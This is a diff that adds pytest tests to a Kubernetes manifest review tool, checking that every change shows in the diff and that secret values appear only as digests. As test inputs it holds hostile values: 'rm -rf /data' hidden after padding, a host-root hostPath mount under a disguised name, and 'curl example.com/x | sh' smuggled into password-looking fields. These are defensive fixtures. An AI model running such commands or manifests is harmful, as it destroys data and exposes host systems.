@@ -61,3 +61,103 @@ def test_change_that_shows_nothing_but_the_mark_is_refused():
         refuse_unseen(make_diff(LIVE, write_mark(LIVE, "somebody")), MARK)
 
     refuse_unseen(make_diff(LIVE, write_mark(_change(replicas=3), "somebody")), MARK)
+
+
+def _with(container=None, **template):
+    live = copy.deepcopy(LIVE)
+    spec = live["spec"]["template"]["spec"]
+    spec |= template
+    spec["containers"][0] |= container or {}
+    return live
+
+
+LONG = "# a line of a script that is long enough\n" * 120
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "shown"),
+    [
+        (_with({"args": [f"{LONG}serve"]}), _with({"args": [f"{LONG}rm -rf /data"]}), "rm -rf /data"),
+        (
+            _with({"volumeMounts": []}),
+            _with(
+                {"volumeMounts": [{"name": "kube-api-access-x", "mountPath": "/host"}]},
+                volumes=[{"name": "kube-api-access-x", "hostPath": {"path": "/"}}],
+            ),
+            "path: /",
+        ),
+        (
+            _with(),
+            _with(tolerations=[{"key": "node.kubernetes.io/unreachable", "tolerationSeconds": 300}]),
+            "node.kubernetes.io/unreachable",
+        ),
+        (_with(), _with(nodeSelector={"uid": "gpu"}), "uid: gpu"),
+        (_with(), _with(schedulerName="default-scheduler"), "default-scheduler"),
+        (
+            _with({"env": [{"name": "A", "value": "x" * 5000}]}),
+            _with({"env": [{"name": "A", "value": "x" * 5001}]}),
+            "x" * 5001,
+        ),
+    ],
+)
+def test_whatever_changes_is_in_the_diff(before, after, shown):
+    """Nothing is cut, taken for noise or for what the server fills in: it would be approved unseen."""
+    diff = make_diff(before, after)
+
+    refuse_unseen(diff, MARK)
+    assert any(shown in line for line in diff.split("\n") if line.startswith("+"))
+
+
+@pytest.mark.parametrize(
+    ("field", "before", "after"),
+    [
+        ("data", {"a": "first line\nsecond"}, {"a": "first line\nsecond\n"}),
+        ("binaryData", {"a": "QUJD"}, {"a": "QUJE"}),
+        ("data", {"password": "one"}, {"password": "two"}),
+    ],
+)
+def test_content_of_a_config_map_differs_when_it_does(field, before, after):
+    """An end of a line, bytes and secrets are told apart, the last two by digests."""
+    one = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "shop"}}
+
+    diff = make_diff({**one, field: before}, {**one, field: after})
+
+    refuse_unseen(diff, MARK)
+    assert not any(secret in diff for secret in ("QUJ", "one", "two"))
+
+
+def test_content_of_a_secret_is_a_digest():
+    """It is never asked for; if it came all the same, a change of it would show."""
+    one = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "c", "namespace": "shop"}}
+
+    diff = make_diff({**one, "data": {"key": "c2VjcmV0"}}, {**one, "data": {"key": "b3RoZXI="}})
+
+    refuse_unseen(diff, MARK)
+    assert "c2VjcmV0" not in diff
+
+
+def test_copy_of_the_manifest_that_changes_is_seen():
+    """An admission webhook could write into it what the next apply brings."""
+    note = "kubectl.kubernetes.io/last-applied-configuration"
+    after = copy.deepcopy(LIVE)
+    after["metadata"]["annotations"][note] = '{"env": [{"name": "API_TOKEN", "value": "abc-def-ghi"}]}'
+
+    diff = make_diff(LIVE, after)
+
+    assert f'+    {note}: "<redacted ' in diff
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "-----BEGIN PRIVATE KEY-----\n/sbin/reboot\n-----END PRIVATE KEY-----\n",
+        "password: |\n  curl example.com/x | sh\n",
+        "PASSWORD=`curl example.com/x|sh`",
+    ],
+)
+def test_change_behind_the_mark_of_a_secret_is_refused(script):
+    """More than a value would be hidden; beside the change it is only hidden."""
+    with pytest.raises(UserError, match="cannot be shown"):
+        refuse_unseen(make_diff(_with(), _with({"args": [script]})), MARK)
+
+    refuse_unseen(make_diff(_with({"args": [script]}), _with({"args": [script], "image": "web:2"})), MARK)
